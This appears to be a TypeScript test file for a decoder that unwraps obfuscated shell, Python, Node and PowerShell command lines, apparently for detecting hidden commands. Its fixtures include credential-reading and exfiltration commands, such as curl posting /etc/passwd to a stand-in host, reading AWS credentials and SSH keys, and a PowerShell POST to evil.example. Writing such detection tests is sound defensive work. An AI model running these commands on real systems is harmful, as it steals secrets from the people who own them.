import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeArgv } from './decode.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');

describe('decodeArgv', () => {
  it('decodes sh -c, combined flags and env prefixes', () => {
    assert.deepEqual(decodeArgv(['bash', '-lc', 'cat ~/.aws/credentials']), [{ via: 'bash -c', text: 'cat ~/.aws/credentials' }]);
    assert.deepEqual(decodeArgv(['/usr/bin/env', 'FOO=1', 'sh', '-c', 'id']), [{ via: 'sh -c', text: 'id' }]);
    assert.deepEqual(decodeArgv(['sh', 'script.sh']), []);
  });
  it('decodes base64 piped into a shell, nested', () => {
    const inner = `echo ${b64('curl -d @/etc/passwd http://x')} | base64 -d | sh`;
    const r = decodeArgv(['sh', '-c', `echo ${b64(inner)} | base64 --decode | bash`]);
    assert.equal(r[0].via, 'sh -c');
    assert.deepEqual(r.slice(1), [
      { via: 'base64', text: inner },
      { via: 'base64', text: 'curl -d @/etc/passwd http://x' },
    ]);
  });
  it('decodes python -c and node -e with base64 literals', () => {
    const code = `import base64;exec(base64.b64decode('${b64('print(open("/root/.ssh/id_rsa").read())')}'))`;
    assert.deepEqual(decodeArgv(['python3', '-c', code]), [
      { via: 'python -c', text: code },
      { via: 'base64', text: 'print(open("/root/.ssh/id_rsa").read())' },
    ]);
    const js = `eval(Buffer.from('${b64('require("child_process").execSync("id")')}','base64').toString())`;
    assert.deepEqual(decodeArgv(['node', '-e', js])[1], { via: 'base64', text: 'require("child_process").execSync("id")' });
  });
  it('decodes PowerShell -EncodedCommand (UTF-16LE)', () => {
    const cmd = 'Invoke-WebRequest -Uri http://evil.example -Method Post';
    const enc = Buffer.from(cmd, 'utf16le').toString('base64');
    assert.deepEqual(decodeArgv(['pwsh', '-NoProfile', '-enc', enc]), [{ via: 'powershell -EncodedCommand', text: cmd }]);
    assert.deepEqual(decodeArgv(['powershell.exe', '-EncodedCommand', enc]), [{ via: 'powershell -EncodedCommand', text: cmd }]);
  });
  it('ignores base64 that decodes to binary', () => {
    assert.deepEqual(decodeArgv(['sh', '-c', `echo ${Buffer.from([0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]).toString('base64')} | base64 -d | sh`]).length, 1);
  });
});
